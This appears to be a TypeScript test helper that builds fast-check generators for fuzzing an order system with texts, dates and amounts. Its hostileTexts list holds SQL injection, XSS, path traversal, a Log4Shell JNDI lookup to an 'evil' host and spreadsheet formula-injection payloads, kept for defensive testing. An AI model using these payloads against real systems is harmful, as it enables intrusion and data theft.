import * as fc from 'fast-check';

/** Texts that some program may take for a command, a path, a number, another language or the end of a text. */
export const hostileTexts = [
  "'); DROP TABLE dealer_order; --",
  "' OR '1'='1",
  '$1; select pg_sleep(10)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil/a}',
  '{{7*7}} %s%n %00',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e999',
  '0x10',
  '\u202Egnp.H-1\u200B',
  '\uFEFFBOM',
  '订单🛵-１',
  'İ ß ﬃ \u0301',
  '/',
  '//',
  '%2e%2e%2f',
  '$1 $& $$',
];

/** Texts as people type them, and now and then what nobody should. */
export const anyText = (most: number): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.string({ minLength: 1, maxLength: Math.min(most, 20) }) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: Math.min(most, 20) }) },
    { weight: 2, arbitrary: fc.constantFrom(...hostileTexts) },
    { weight: 1, arbitrary: fc.constant('长'.repeat(most)) },
  );

/** Moments around the day of the run, with an offset. */
export const anyMoment = fc
  .tuple(fc.integer({ min: -100 * 24 * 60, max: 400 * 24 * 60 }), fc.constantFrom('+08:00', 'Z', '-11:00'))
  .map(([minutes, offset]) => new Date(Date.parse('2026-09-07T09:00:00Z') + minutes * 60_000).toISOString().replace('.000Z', offset));

export const anyDay = fc.integer({ min: -400, max: 800 }).map((days) => new Date(Date.parse('2026-09-07') + days * 86_400_000).toISOString().slice(0, 10));

/** Amounts as texts, small ones more often than enormous ones. */
export const anyAmount = fc
  .oneof({ weight: 5, arbitrary: fc.integer({ min: 0, max: 5_000_000 }) }, { weight: 1, arbitrary: fc.integer({ min: -100_000_000, max: 999_999_999_999 }) })
  .map((fen) => (fen / 100).toFixed(2));
